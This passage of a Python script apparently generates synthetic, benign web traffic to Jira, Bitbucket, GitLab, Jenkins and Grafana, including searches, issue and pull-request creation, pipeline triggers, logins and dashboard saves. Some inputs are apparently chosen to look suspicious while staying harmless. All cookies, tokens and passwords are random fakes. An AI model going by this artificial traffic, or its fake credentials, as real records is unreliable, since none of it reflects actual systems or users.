        ex = [("X-Requested-With", "XMLHttpRequest")]
        if ct:
            ex = [("Content-Type", ct), ("X-Atlassian-Token", "no-check")]
        return browser(r, ACCEPT_JSON, ck(r), extra=ex)

    JQL = ['project = OPS AND status in ("In Progress", "To Do") ORDER BY priority DESC',
           'assignee = currentUser() AND resolution = Unresolved ORDER BY updated DESC',
           'project = SEC AND labels = "cve" AND created >= -30d',
           'summary ~ "login OR logout" AND project != ARCHIVE',
           '"Epic Link" = OPS-100 ORDER BY Rank ASC',
           'component in ("API Gateway", Frontend) AND fixVersion = "2026.12"',
           'issuekey in (OPS-12, OPS-13) OR parent = OPS-3',
           'reporter = "d.oneil" AND status changed to Done during (startOfWeek(), now())',
           'text ~ "drop-down menu" AND type = Bug',
           'project = PAY AND "Story Points" > 3 AND sprint in openSprints()']

    def t_browse(r, i):
        return "GET", r.choice(H), "/browse/%s" % key(r), browser(r, cookie=ck(r)), None

    def t_search(r, i):
        return "GET", r.choice(H), "/rest/api/2/search?jql=%s&startAt=0&maxResults=50&fields=summary,status,assignee,priority" % Q(r.choice(JQL)), api(r), None

    def t_search_post(r, i):
        return "POST", r.choice(H), "/rest/api/2/search", api(r, "application/json"), jdump({"jql": r.choice(JQL), "startAt": 0, "maxResults": 100, "fields": ["summary", "status", "updated"]})

    def t_navigator(r, i):
        return "GET", r.choice(H), "/issues/?jql=%s" % QP(r.choice(JQL)), browser(r, cookie=ck(r)), None

    def t_create(r, i):
        desc = r.choice([
            "h3. Steps to reproduce\n# Add 51 items to the cart\n# Click *Checkout*\n# Observe the error banner\n\nh3. Expected\nOrder summary is shown.\n\nh3. Actual\n{noformat}HTTP 500 - upstream request timeout{noformat}\n\n!screenshot-1.png|thumbnail!",
            "The export to CSV drops rows where the customer name contains a comma (e.g. \"Smith, Jr.\"). Seen by [~%s] on 28/11." % uname(r),
            "As a support agent I want to filter tickets by *region* so that I can hand over APAC tickets at 17:00.\n\n*Acceptance criteria*\n* filter persists across sessions\n* works with saved filters\n* < 300 ms p95",
            "Customer reports the invoice PDF shows \"€ 1.234,50\" instead of \"1,234.50 €\" for locale en-IE. See [support case|https://support.example.com/cases/88213]."])
        body = jdump({"fields": {"project": {"key": r.choice(PK)}, "summary": r.choice(["Checkout page returns 500 when cart has > 50 items", "CSV export drops rows with commas", "Filter tickets by region", "Invoice currency format wrong for en-IE"]),
                                 "description": desc, "issuetype": {"name": r.choice(["Bug", "Story", "Task"])}, "priority": {"name": r.choice(["Major", "Minor", "Critical"])}, "labels": ["customer-reported"]}})
        return "POST", r.choice(H), "/rest/api/2/issue", api(r, "application/json"), body

    def t_comment(r, i):
        body = jdump({"body": r.choice(["Deployed to staging in build #4821, please verify. cc [~%s]" % uname(r),
                                        "Can't reproduce on 2026.11.3 — could you attach the HAR file?",
                                        "Root cause: the retry policy didn't honour {{Retry-After}}. Fix in PR #412.",
                                        "Moving to *Blocked* until the vendor confirms the API change (ETA Monday)."])})
        return "POST", r.choice(H), "/rest/api/2/issue/%s/comment" % key(r), api(r, "application/json"), body

    def t_transition(r, i):
        return "POST", r.choice(H), "/rest/api/2/issue/%s/transitions" % key(r), api(r, "application/json"), jdump({"transition": {"id": str(r.choice([11, 21, 31, 41]))}})

    def t_board(r, i):
        return "GET", r.choice(H), "/rest/greenhopper/1.0/xboard/work/allData.json?rapidViewId=%d&selectedProjectKey=%s&_=%s" % (r.randint(1, 80), r.choice(PK), ms(r)), api(r), None

    def t_rapid(r, i):
        return "GET", r.choice(H), "/secure/RapidBoard.jspa?rapidView=%d&projectKey=%s&view=planning.nodetail&issueLimit=100" % (r.randint(1, 80), r.choice(PK)), browser(r, cookie=ck(r)), None

    def t_picker(r, i):
        return "GET", r.choice(H), "/rest/api/2/user/picker?query=%s&maxResults=10&showAvatar=true" % Q(r.choice(["o'bri", "mül", "anna", "d'so", "kow"])), api(r), None

    def t_quickcreate(r, i):
        return "GET", r.choice(H), "/secure/QuickCreateIssue!default.jspa?decorator=none", api(r), None

    def t_quickcreate_post(r, i):
        body = form([("pid", str(r.randint(10000, 10100))), ("issuetype", "10002"), ("atl_token", "B%s|%s|lin" % (hexs(r, 3).upper(), hexs(r, 40))),
                     ("formToken", hexs(r, 40)), ("summary", r.choice(["Update SSL cert on api-gw (expires 2027-01-05)", "Typo on pricing page: \"recieve\"", "Add 'Export to Excel' button"])),
                     ("description", "See thread in #ops-alerts."), ("priority", "3"), ("labels", "ops"), ("assignee", uname(r)), ("fieldsToRetain", "project"), ("fieldsToRetain", "issuetype")])
        return "POST", r.choice(H), "/secure/QuickCreateIssue.jspa?decorator=none", browser(r, ACCEPT_JSON, ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("X-Requested-With", "XMLHttpRequest")]), body

    def t_labels(r, i):
        return "PUT", r.choice(H), "/rest/api/2/issue/%s" % key(r), api(r, "application/json"), jdump({"update": {"labels": [{"add": r.choice(["needs-qa", "release-blocker", "tech-debt"])}]}})

    def t_issue(r, i):
        return "GET", r.choice(H), "/rest/api/2/issue/%s?fields=summary,status,comment&expand=renderedFields" % key(r), api(r), None

    def t_worklog(r, i):
        return "POST", r.choice(H), "/rest/api/2/issue/%s/worklog" % key(r), api(r, "application/json"), jdump({"timeSpent": r.choice(["1h 30m", "45m", "2h"]), "comment": r.choice(["Pairing on the flaky test", "Code review", "Customer call"])})

    def t_issuepicker(r, i):
        return "GET", r.choice(H), "/rest/api/2/issue/picker?currentJQL=%s&query=%s&showSubTasks=true&showSubTaskParent=true" % (Q("project = %s ORDER BY updated DESC" % r.choice(PK)), QP(r.choice(["checkout", "sso", "export"]))), api(r), None

    def t_attach(r, i):
        return "GET", r.choice(H), "/secure/attachment/%d/screenshot-2026-11-%02d.png" % (r.randint(10000, 99999), r.randint(1, 30)), browser(r, "image/avif,image/webp,*/*", ck(r)), None

    def t_webhook(r, i):
        body = jdump({"name": "Deploy bot", "url": "https://deploybot.example.com/hooks/jira", "events": ["jira:issue_updated", "comment_created"],
                      "filters": {"issue-related-events-section": "project = OPS AND labels = deploy"}, "excludeBody": False})
        return "POST", r.choice(H), "/rest/webhooks/1.0/webhook", api(r, "application/json"), body

    def t_versions(r, i):
        return "GET", r.choice(H), "/rest/api/2/project/%s/versions" % r.choice(PK), api(r), None

    run(o, "jira", 44, [t_browse, t_search, t_create, t_comment, t_transition, t_board, t_rapid, t_picker, t_quickcreate,
                        t_quickcreate_post, t_labels, t_issue, t_worklog, t_issuepicker, t_search_post, t_attach, t_webhook,
                        t_versions, t_navigator, t_search, t_comment, t_create], rng)

    # Bitbucket
    rng = R("b:bitbucket")
    HB = ["bitbucket.example.com", "git.corp.example.net:7990"]
    REPOS = [("PLAT", "api"), ("PLAT", "web-frontend"), ("DATA", "etl-jobs"), ("OPS", "helm-charts")]

    def bck(r):
        return "BITBUCKETSESSIONID=%s; _atl_bitbucket_remember_me=%s" % (hexs(r, 32).upper(), alnum(r, 40))

    def b_browse(r, i):
        p, rp = r.choice(REPOS)
        f = r.choice(["src/main/java/com/example/api/OrderController.java", "README.md", "charts/api/values.yaml", "src/components/Cart.tsx"])
        return "GET", r.choice(HB), "/projects/%s/repos/%s/browse/%s?at=%s" % (p, rp, f, Q("refs/heads/main")), browser(r, cookie=bck(r)), None

    def b_prs(r, i):
        p, rp = r.choice(REPOS)
        return "GET", r.choice(HB), "/rest/api/1.0/projects/%s/repos/%s/pull-requests?state=OPEN&limit=25&start=0" % (p, rp), browser(r, ACCEPT_JSON, bck(r)), None

    def b_comment(r, i):
        p, rp = r.choice(REPOS)
        return "POST", r.choice(HB), "/rest/api/1.0/projects/%s/repos/%s/pull-requests/%d/comments" % (p, rp, r.randint(1, 900)), browser(r, ACCEPT_JSON, bck(r), extra=[("Content-Type", "application/json"), ("X-Atlassian-Token", "no-check")]), jdump({"text": r.choice(["Could we add a test for the null case? Otherwise :+1:", "Nit: rename `tmp` to `pendingOrders`.", "Approved, thanks!"])})

    def b_archive(r, i):
        p, rp = r.choice(REPOS)
        return "GET", r.choice(HB), "/rest/api/latest/projects/%s/repos/%s/archive?at=%s&format=zip" % (p, rp, Q("refs/tags/v1.%d.%d" % (r.randint(0, 9), r.randint(0, 20)))), browser(r, "*/*", bck(r)), None

    def b_commits(r, i):
        p, rp = r.choice(REPOS)
        return "GET", r.choice(HB), "/rest/api/1.0/projects/%s/repos/%s/commits?until=%s&limit=50" % (p, rp, Q("refs/heads/main")), browser(r, ACCEPT_JSON, bck(r)), None

    def b_raw(r, i):
        p, rp = r.choice(REPOS)
        return "GET", r.choice(HB), "/rest/api/1.0/projects/%s/repos/%s/raw/README.md?at=main" % (p, rp), [["User-Agent", "curl/8.5.0"], ["Accept", "*/*"], ["Authorization", "Bearer " + alnum(r, 44)]], None

    def b_newpr(r, i):
        p, rp = r.choice(REPOS)
        body = jdump({"title": "PAY-%d: retry webhook deliveries with backoff" % r.randint(100, 999), "description": "* adds exponential backoff\n* caps at 5 attempts\n\nTested against staging.",
                      "fromRef": {"id": "refs/heads/feature/retry-backoff"}, "toRef": {"id": "refs/heads/main"}, "reviewers": [{"user": {"name": uname(r)}}]})
        return "POST", r.choice(HB), "/rest/api/1.0/projects/%s/repos/%s/pull-requests" % (p, rp), browser(r, ACCEPT_JSON, bck(r), extra=[("Content-Type", "application/json")]), body

    run(o, "bitbucket", 14, [b_browse, b_prs, b_comment, b_archive, b_commits, b_raw, b_newpr], rng)


# ---- GitLab ---------------------------------------------------------------

def b_gitlab(o):
    rng = R("b:gitlab")
    H = ["gitlab.example.com", "code.corp.example.net"]
    PROJ = ["platform/api", "platform/web-frontend", "data/etl-jobs", "infra/terraform-modules", "mobile/ios-app"]

    def ck(r):
        return "_gitlab_session=%s; known_sign_in=%s; event_filter=all; preferred_language=en" % (hexs(r, 32), Q(b64(hexs(r, 24))))

    def web(r, accept=ACCEPT_JSON, extra=()):
        return browser(r, accept, ck(r), extra=[("X-CSRF-Token", b64(hexs(r, 48)) + "=="[:0]), ("X-Requested-With", "XMLHttpRequest")] + list(extra))

    def apih(r, ct=None):
        h = [["User-Agent", r.choice(["python-gitlab/4.4.0", "curl/8.5.0", "Go-http-client/1.1", "gitlab-runner 17.5.2 (17-5-stable; go1.22.7; linux/amd64)"])],
             ["Accept", "application/json"], ["PRIVATE-TOKEN", "glpat-" + alnum(r, 20)]]
        if ct:
            h.append(["Content-Type", ct])
        return h

    def pid(r):
        return r.randint(10, 900)

    def t_mrs(r, i):
        return "GET", r.choice(H), "/api/v4/projects/%d/merge_requests?state=opened&scope=all&per_page=20&page=1" % pid(r), apih(r), None

    def t_rawfile(r, i):
        p = r.choice(PROJ)
        return "GET", r.choice(H), "/api/v4/projects/%s/repository/files/%s/raw?ref=main" % (Q(p), Q(r.choice(["config/settings.yml", "docs/setup.md", "package.json", ".gitlab-ci.yml"]))), apih(r), None

    def t_blob(r, i):
        return "GET", r.choice(H), "/%s/-/blob/main/%s" % (r.choice(PROJ), r.choice(["src/app.py", "README.md", "src/components/Checkout.vue", "modules/vpc/main.tf"])), browser(r, cookie=ck(r)), None

    def t_graphql(r, i):
        body = jdump({"operationName": "getPipelineDetails", "variables": {"projectPath": r.choice(PROJ), "iid": str(r.randint(100, 9000))},
                      "query": "query getPipelineDetails($projectPath: ID!, $iid: ID!) {\n  project(fullPath: $projectPath) {\n    id\n    pipeline(iid: $iid) {\n      id\n      iid\n      status\n      stages {\n        nodes {\n          id\n          name\n          detailedStatus { id icon label }\n        }\n      }\n    }\n  }\n}\n"})
        return "POST", r.choice(H), "/api/graphql", web(r, extra=[("Content-Type", "application/json")]), body

    def t_diffs(r, i):
        return "GET", r.choice(H), "/%s/-/merge_requests/%d/diffs_batch.json?diff_head=true&view=inline&w=0&page=0&per_page=5" % (r.choice(PROJ), r.randint(1, 900)), web(r), None

    def t_pipeline(r, i):
        return "POST", r.choice(H), "/api/v4/projects/%d/pipeline?ref=main" % pid(r), apih(r, "application/json"), jdump({"variables": [{"key": "DEPLOY_ENV", "value": r.choice(["staging", "prod-eu"])}, {"key": "DRY_RUN", "value": "false"}]})

    def t_signin(r, i):
        body = form([("authenticity_token", b64(hexs(r, 48))), ("user[login]", uname(r)), ("user[password]", alnum(r, 16)), ("user[remember_me]", "0")])
        return "POST", r.choice(H), "/users/sign_in", browser(r, cookie="_gitlab_session=%s" % hexs(r, 32), extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://gitlab.example.com")]), body

    def t_autocomplete(r, i):
        return "GET", r.choice(H), "/-/autocomplete/users.json?search=%s&active=true&project_id=%d" % (Q(r.choice(["jo", "mü", "o'b", "pri"])), pid(r)), web(r), None

    def t_tree(r, i):
        return "GET", r.choice(H), "/api/v4/projects/%d/repository/tree?path=%s&ref=main&per_page=100" % (pid(r), Q(r.choice(["src/api", "charts", "docs/adr"]))), apih(r), None

    def t_issue(r, i):
        desc = ("## Summary\nThe **Export** button is disabled for users with the `reporter` role.\n\n"
                "## Steps\n1. Log in as a reporter\n2. Open *Reports → Monthly*\n3. Hover the button\n\n"
                "| Role | Expected | Actual |\n|------|----------|--------|\n| reporter | enabled | disabled |\n\n"
                "- [ ] add role check test\n- [x] confirm with product\n\n> Reported by support, ticket #88213\n\n/label ~bug ~\"priority::2\"")
        return "POST", r.choice(H), "/api/v4/projects/%d/issues" % pid(r), apih(r, "application/json"), jdump({"title": "Export button disabled for reporters", "description": desc, "labels": "bug,frontend"})

    def t_note(r, i):
        return "POST", r.choice(H), "/api/v4/projects/%d/issues/%d/notes" % (pid(r), r.randint(1, 400)), apih(r, "application/json"), jdump({"body": r.choice(["/assign @%s\n/milestone %%\"2026.12\"\nThanks — fixed in !%d" % (uname(r), r.randint(10, 900)), "Confirmed on Safari 18.1 too :disappointed:", "Closing as duplicate of #%d" % r.randint(1, 400)])})

    def t_logs_tree(r, i):
        return "GET", r.choice(H), "/%s/-/refs/main/logs_tree/?format=json&offset=0" % r.choice(PROJ), web(r), None

    def t_jobraw(r, i):
        return "GET", r.choice(H), "/%s/-/jobs/%d/raw" % (r.choice(PROJ), r.randint(100000, 999999)), browser(r, "text/plain,*/*", ck(r)), None

    def t_jobs(r, i):
        return "GET", r.choice(H), "/api/v4/projects/%d/jobs?scope[]=failed&scope[]=canceled&per_page=50" % pid(r), apih(r), None

    def t_hook(r, i):
        return "POST", r.choice(H), "/api/v4/projects/%d/hooks" % pid(r), apih(r, "application/json"), jdump({"url": "https://hooks.slack.com/services/T0%s/B0%s/%s" % (alnum(r, 8).upper(), alnum(r, 8).upper(), alnum(r, 24)), "push_events": True, "merge_requests_events": True, "enable_ssl_verification": True, "token": alnum(r, 20)})

    def t_uploads(r, i):
        return "GET", r.choice(H), "/%s/uploads/%s/%s" % (r.choice(PROJ), hexs(r, 32), r.choice(["screenshot.png", "image.png", "trace.har", "Screenshot_2026-11-30_at_10.42.17.png"])), browser(r, "image/avif,image/webp,*/*", ck(r)), None

    def t_upload_post(r, i):
        ct, b = multipart(r, [("file", "notes from standup.txt", "text/plain", "- api: deploy blocked on migration\n- web: dark mode QA done\n")])
        return "POST", r.choice(H), "/%s/uploads" % r.choice(PROJ), web(r, extra=[("Content-Type", ct)]), b

    def t_mr_update(r, i):
        return "PUT", r.choice(H), "/api/v4/projects/%d/merge_requests/%d" % (pid(r), r.randint(1, 900)), apih(r, "application/json"), jdump({"labels": "ready-for-review", "assignee_ids": [r.randint(2, 300)], "squash": True})

    def t_compare(r, i):
        return "GET", r.choice(H), "/api/v4/projects/%d/repository/compare?from=v1.4.%d&to=v1.4.%d" % (pid(r), r.randint(0, 5), r.randint(6, 9)), apih(r), None

    def t_projects(r, i):
        return "GET", r.choice(H), "/api/v4/projects?search=%s&order_by=last_activity_at&simple=true&membership=true" % r.choice(["payments", "helm", "etl"]), apih(r), None

    def t_commitdiff(r, i):
        return "GET", r.choice(H), "/%s/-/commit/%s.diff" % (r.choice(PROJ), hexs(r, 40)), browser(r, "text/plain,*/*", ck(r)), None

    def t_redirect(r, i):
        return "GET", r.choice(H), "/users/sign_in?redirect_to_referer=yes", browser(r, referer="https://gitlab.example.com/%s/-/issues/12" % r.choice(PROJ)), None

    run(o, "gitlab", 40, [t_mrs, t_rawfile, t_blob, t_graphql, t_diffs, t_pipeline, t_signin, t_autocomplete, t_tree, t_issue,
                          t_note, t_logs_tree, t_jobraw, t_jobs, t_hook, t_uploads, t_upload_post, t_mr_update, t_compare,
                          t_projects, t_commitdiff, t_redirect], rng)


# ---- Jenkins --------------------------------------------------------------

def b_jenkins(o):
    rng = R("b:jenkins")
    H = ["jenkins.example.com", "ci.corp.example.net:8080"]
    JOBS = ["deploy-api", "platform/job/api/job/main", "nightly-integration", "web-frontend/job/PR-412", "terraform-plan"]

    def ck(r):
        return "JSESSIONID.%s=node0%s.node0; screenResolution=1920x1080" % (hexs(r, 8), alnum(r, 26).lower())

    def crumb(r):
        return hexs(r, 64)

    def apih(r, extra=()):
        return [["User-Agent", r.choice(["python-jenkins/1.8.2", "curl/8.5.0", "Go-http-client/1.1"])], ["Accept", "application/json"],
                ["Authorization", "Basic " + b64("%s:%s" % (uname(r), hexs(r, 34)))]] + [list(x) for x in extra]

    def t_lastbuild(r, i):
        return "GET", r.choice(H), "/job/%s/lastBuild/api/json?tree=result,timestamp,duration,building,number" % r.choice(JOBS), apih(r), None

    def t_build(r, i):
        return "POST", r.choice(H), "/job/deploy-api/buildWithParameters?ENV=%s&VERSION=1.%d.%d&NOTIFY=true" % (r.choice(["staging", "prod-eu"]), r.randint(0, 9), r.randint(0, 30)), apih(r, [("Jenkins-Crumb", crumb(r))]), ""

    def t_crumb(r, i):
        return "GET", r.choice(H), "/crumbIssuer/api/json", apih(r), None

    def t_computer(r, i):
        return "GET", r.choice(H), "/computer/api/json?depth=1&tree=computer[displayName,offline,idle,numExecutors]", apih(r), None

    def t_queue(r, i):
        return "GET", r.choice(H), "/queue/api/json", apih(r), None

    def t_blue(r, i):
        return "GET", r.choice(H), "/blue/rest/organizations/jenkins/pipelines/platform/pipelines/api/branches/main/runs/?start=0&limit=26", browser(r, ACCEPT_JSON, ck(r)), None

    def t_console(r, i):
        return "GET", r.choice(H), "/job/%s/%d/consoleText" % (r.choice(JOBS), r.randint(1, 2000)), browser(r, "text/plain,*/*", ck(r)), None

    def t_progressive(r, i):
        return "POST", r.choice(H), "/job/%s/%d/logText/progressiveHtml" % (r.choice(JOBS), r.randint(1, 2000)), browser(r, "*/*", ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("Jenkins-Crumb", crumb(r)), ("X-Requested-With", "XMLHttpRequest")]), "start=%d" % r.randint(0, 90000)

    def t_configxml(r, i):
        xml = ("<?xml version='1.1' encoding='UTF-8'?>\n<project>\n  <description>Nightly build of the web frontend (owner: %s)</description>\n  <keepDependencies>false</keepDependencies>\n"
               "  <properties>\n    <hudson.model.ParametersDefinitionProperty>\n      <parameterDefinitions>\n        <hudson.model.StringParameterDefinition>\n          <name>BRANCH</name>\n          <defaultValue>main</defaultValue>\n          <trim>true</trim>\n        </hudson.model.StringParameterDefinition>\n      </parameterDefinitions>\n    </hudson.model.ParametersDefinitionProperty>\n  </properties>\n"
               "  <scm class=\"hudson.plugins.git.GitSCM\" plugin=\"git@5.2.1\">\n    <configVersion>2</configVersion>\n    <userRemoteConfigs>\n      <hudson.plugins.git.UserRemoteConfig>\n        <url>https://gitlab.example.com/platform/web-frontend.git</url>\n        <credentialsId>gitlab-ci-token</credentialsId>\n      </hudson.plugins.git.UserRemoteConfig>\n    </userRemoteConfigs>\n    <branches>\n      <hudson.plugins.git.BranchSpec>\n        <name>*/${BRANCH}</name>\n      </hudson.plugins.git.BranchSpec>\n    </branches>\n  </scm>\n"
               "  <triggers>\n    <hudson.triggers.TimerTrigger>\n      <spec>H 2 * * 1-5</spec>\n    </hudson.triggers.TimerTrigger>\n  </triggers>\n"
               "  <builders>\n    <hudson.tasks.Shell>\n      <command>npm ci\nnpm run build</command>\n    </hudson.tasks.Shell>\n  </builders>\n"
               "  <publishers>\n    <hudson.tasks.ArtifactArchiver>\n      <artifacts>dist/**</artifacts>\n    </hudson.tasks.ArtifactArchiver>\n  </publishers>\n</project>\n") % uname(r)
        return "POST", r.choice(H), "/job/nightly-web/config.xml", apih(r, [("Content-Type", "application/xml"), ("Jenkins-Crumb", crumb(r))]), xml

    def t_configsubmit(r, i):
        c = crumb(r)
        js = jdump({"description": "Deploys the API to the selected environment. Ask #platform before running against prod.", "properties": {"stapler-class-bag": "true", "hudson-model-ParametersDefinitionProperty": {"parameterDefinitions": [{"name": "ENV", "choices": "staging\nprod-eu\nprod-us", "description": "Target", "stapler-class": "hudson.model.ChoiceParameterDefinition", "$class": "hudson.model.ChoiceParameterDefinition"}]}}, "disable": False, "Jenkins-Crumb": c})
        body = form([("description", "Deploys the API to the selected environment. Ask #platform before running against prod."), ("_.name", "ENV"), ("_.choices", "staging\nprod-eu\nprod-us"), ("Jenkins-Crumb", c), ("json", js), ("Submit", "Save")])
        return "POST", r.choice(H), "/job/deploy-api/configSubmit", browser(r, cookie=ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://jenkins.example.com")]), body

    def t_plugins(r, i):
        return "GET", r.choice(H), "/manage/pluginManager/api/json?depth=1&tree=plugins[shortName,version,hasUpdate]", apih(r), None

    def t_ajax(r, i):
        return "POST", r.choice(H), r.choice(["/ajaxBuildQueue", "/ajaxExecutors"]), browser(r, "text/javascript, text/html, application/xml, text/xml, */*", ck(r), extra=[("Jenkins-Crumb", crumb(r)), ("X-Requested-With", "XMLHttpRequest"), ("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8")]), ""

    def t_static(r, i):
        return "GET", r.choice(H), "/static/%s/jsbundles/%s" % (hexs(r, 8), r.choice(["app.js", "pages/dashboard.js", "vendors.js", "styles.css"])), browser(r, "*/*", ck(r)), None

    def t_desc(r, i):
        return "POST", r.choice(H), "/job/deploy-api/%d/submitDescription" % r.randint(1, 2000), browser(r, cookie=ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("description", r.choice(["Deployed to staging (PR #412)", "Hotfix for PAY-231 – rolled back at 14:05", "Release 2026.12.1"])), ("Jenkins-Crumb", crumb(r)), ("Submit", "Submit")])

    def t_ws(r, i):
        return "GET", r.choice(H), "/job/%s/ws/target/surefire-reports/" % r.choice(JOBS), browser(r, cookie=ck(r)), None

    def t_check(r, i):
        return "POST", r.choice(H), "/job/deploy-api/descriptorByName/hudson.model.StringParameterDefinition/checkName", browser(r, "*/*", ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"), ("Jenkins-Crumb", crumb(r))]), "value=DEPLOY_ENV"

    def t_artifact(r, i):
        return "GET", r.choice(H), "/job/%s/lastSuccessfulBuild/artifact/build/libs/app-1.4.%d.jar" % (r.choice(JOBS), r.randint(0, 9)), [["User-Agent", "Wget/1.21.4"], ["Accept", "*/*"], ["Authorization", "Basic " + b64("deploy:" + hexs(r, 34))]], None

    def t_input(r, i):
        return "POST", r.choice(H), "/job/platform/job/api/job/main/%d/input/Approve/proceedEmpty" % r.randint(1, 900), browser(r, "*/*", ck(r), extra=[("Jenkins-Crumb", crumb(r)), ("Content-Type", "application/x-www-form-urlencoded")]), ""

    def t_login(r, i):
        return "POST", r.choice(H), "/j_spring_security_check", browser(r, cookie=ck(r), extra=[("Content-Type", "application/x-www-form-urlencoded")]), form([("j_username", uname(r)), ("j_password", alnum(r, 14)), ("from", "/job/deploy-api/"), ("Submit", "Sign in")])

    def t_xpath(r, i):
        return "GET", r.choice(H), "/job/deploy-api/api/xml?xpath=/*/lastBuild/number", apih(r), None

    run(o, "jenkins", 36, [t_lastbuild, t_build, t_crumb, t_computer, t_queue, t_blue, t_console, t_progressive, t_configxml,
                           t_configsubmit, t_plugins, t_ajax, t_static, t_desc, t_ws, t_check, t_artifact, t_input, t_login, t_xpath], rng)


# ---- Grafana --------------------------------------------------------------

PROMQL = ['sum(rate(http_requests_total{job="api",status=~"5.."}[5m])) by (instance)',
          'histogram_quantile(0.99, sum(rate(http_request_duration_seconds_bucket{service="checkout"}[5m])) by (le))',
          '100 * (1 - avg by (instance) (rate(node_cpu_seconds_total{mode="idle"}[5m])))',
          'kube_pod_container_status_restarts_total{namespace="prod"} > 3',
          'sum by (pod) (container_memory_working_set_bytes{namespace=~"$namespace", pod=~"$pod", container!=""})',
          'rate(kafka_consumergroup_lag{consumergroup="orders-etl"}[1m]) or vector(0)',
          'up{job=~"node|kubelet"} == 0',
          'topk(10, sum by (route) (rate(nginx_ingress_controller_requests{status!~"2.."}[10m])))']


def b_grafana(o):
    rng = R("b:grafana")
    H = ["grafana.example.com", "monitoring.corp.example.net:3000"]

    def ck(r):
        return "grafana_session=%s; grafana_session_expiry=%d" % (hexs(r, 32), r.randint(1764000000, 1765000000))

    def gh(r, ct=None, extra=()):
        ex = [("X-Grafana-Org-Id", "1"), ("X-Grafana-Device-Id", hexs(r, 32))]
        if ct:
            ex.append(("Content-Type", ct))
        return browser(r, ACCEPT_JSON, ck(r), extra=ex + list(extra))

    def t_dash(r, i):
        return "GET", r.choice(H), "/api/dashboards/uid/%s" % alnum(r, 9), gh(r), None

    def t_query(r, i):
        qs_ = [{"refId": chr(65 + k), "datasource": {"type": "prometheus", "uid": "prom-%s" % alnum(r, 6)}, "expr": e, "interval": "", "legendFormat": "{{instance}}", "range": True, "utcOffsetSec": 3600, "intervalMs": 15000, "maxDataPoints": 1200}
               for k, e in enumerate(r.sample(PROMQL, 2))]
        body = jdump({"queries": qs_, "from": ms(r), "to": ms(r)})
        return "POST", r.choice(H), "/api/ds/query?ds_type=prometheus&requestId=Q%d" % r.randint(100, 999), gh(r, "application/json", [("X-Dashboard-Uid", alnum(r, 9)), ("X-Panel-Id", str(r.randint(1, 40)))]), body

    def t_loki(r, i):
        expr = r.choice(['{namespace="prod", app=~"api|web"} |= "error" != "timeout" | json | line_format "{{.level}} {{.msg}}"',
                         'sum by (status) (count_over_time({app="ingress-nginx"} | pattern `<ip> - - <_> "<method> <uri> <_>" <status> <_>` [5m]))',
                         '{cluster="eu-1", container="checkout"} |~ "(?i)exception|panic" | logfmt | duration > 500ms'])
        body = jdump({"queries": [{"refId": "A", "datasource": {"type": "loki", "uid": "loki"}, "expr": expr, "queryType": "range", "maxLines": 1000}], "from": ms(r), "to": ms(r)})
        return "POST", r.choice(H), "/api/ds/query?ds_type=loki", gh(r, "application/json"), body

    def t_search(r, i):
        return "GET", r.choice(H), "/api/search?query=%s&type=dash-db&starred=false&limit=50" % Q(r.choice(["", "kubernetes", "node exporter", "SLO – checkout"])), gh(r), None

    def t_proxy(r, i):
        return "GET", r.choice(H), "/api/datasources/proxy/uid/prom/api/v1/query_range?query=%s&start=%d&end=%d&step=30" % (Q(r.choice(PROMQL)), r.randint(1764000000, 1764500000), r.randint(1764500000, 1765000000)), gh(r), None

    def t_plugin(r, i):
        return "GET", r.choice(H), "/public/plugins/%s/%s?_cache=%d" % (r.choice(["grafana-piechart-panel", "grafana-worldmap-panel", "grafana-clock-panel"]), r.choice(["module.js", "img/icon.svg"]), r.randint(1, 9999999)), browser(r, "*/*", ck(r)), None

    def t_build(r, i):
        return "GET", r.choice(H), "/public/build/%s.%s.js" % (r.choice(["app", "runtime", "DashboardPage"]), hexs(r, 20)), browser(r, "*/*", ck(r)), None

    def t_annot(r, i):
        return "GET", r.choice(H), "/api/annotations?from=%s&to=%s&limit=100&matchAny=false&dashboardUID=%s" % (ms(r), ms(r), alnum(r, 9)), gh(r), None

    def t_save(r, i):
        dash = {"dashboard": {"uid": alnum(r, 9), "title": r.choice(["Checkout SLO", "Kubernetes / Pods", "Kafka lag"]), "tags": ["prod", "sre"], "timezone": "browser", "schemaVersion": 39, "version": r.randint(2, 80),
                              "templating": {"list": [{"name": "namespace", "type": "query", "query": "label_values(kube_pod_info, namespace)", "refresh": 2},
                                                      {"name": "pod", "type": "query", "query": "label_values(kube_pod_info{namespace=\"$namespace\"}, pod)", "includeAll": True, "multi": True}]},
                              "panels": [{"id": 1, "type": "timeseries", "title": "Error rate", "gridPos": {"h": 8, "w": 12, "x": 0, "y": 0},
                                          "targets": [{"refId": "A", "expr": r.choice(PROMQL), "legendFormat": "{{instance}} - {{status}}"}],
                                          "fieldConfig": {"defaults": {"unit": "percentunit", "thresholds": {"mode": "absolute", "steps": [{"color": "green", "value": None}, {"color": "red", "value": 0.05}]}}}},
                                         {"id": 2, "type": "text", "title": "Notes", "options": {"mode": "markdown", "content": "### Runbook\nSee [on-call runbook](https://confluence.example.com/display/OPS/On-call+Runbook). Page **#sre-oncall** if > 5%."}}]},
                "folderUid": alnum(r, 9), "message": "threshold 5%", "overwrite": False}
        return "POST", r.choice(H), "/api/dashboards/db", gh(r, "application/json"), jdump(dash)

    def t_metrics(r, i):
        return "POST", r.choice(H), "/api/frontend-metrics", gh(r, "application/json"), jdump({"events": [{"name": "frontend_boot_load_time_seconds", "value": round(r.uniform(0.5, 3), 3)}]})

    def t_prefs(r, i):
        return "PUT", r.choice(H), "/api/user/preferences", gh(r, "application/json"), jdump({"theme": r.choice(["dark", "light"]), "timezone": "browser", "weekStart": "monday", "homeDashboardUID": alnum(r, 9)})

    def t_rule(r, i):
        body = jdump({"name": "checkout-slo", "interval": "1m", "rules": [{"grafana_alert": {"title": "High error rate on checkout", "condition": "C", "no_data_state": "NoData", "exec_err_state": "Error",
                      "data": [{"refId": "A", "datasourceUid": "prom", "relativeTimeRange": {"from": 600, "to": 0}, "model": {"expr": PROMQL[0], "refId": "A"}}]},
